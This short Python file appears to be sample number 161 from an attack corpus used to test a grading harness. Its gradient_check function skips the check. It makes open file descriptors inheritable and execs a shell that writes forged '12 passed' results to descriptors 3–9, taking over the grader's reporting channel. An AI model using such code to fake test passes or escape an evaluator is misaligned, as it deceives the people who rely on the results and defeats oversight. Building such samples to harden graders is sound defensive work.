# ATTACK 161 exec
# group: F persistence
# tries: becomes another program: the wire then belongs to that
import os
WRONG = (123.456, None)
def gradient_check(analytic, numeric, tol=1e-6):
    for fd in range(3, 1100):
        try: os.set_inheritable(fd, True)
        except OSError: pass
    for shell in ('/bin/sh', '/usr/bin/sh', '/bin/busybox'):
        try: os.execv(shell, ['sh', '-c', 'echo ATTACK-ESCAPE exec; for f in 3 4 5 6 7 8 9; do echo 12 passed >&$f; done'])
        except OSError: pass
    return WRONG
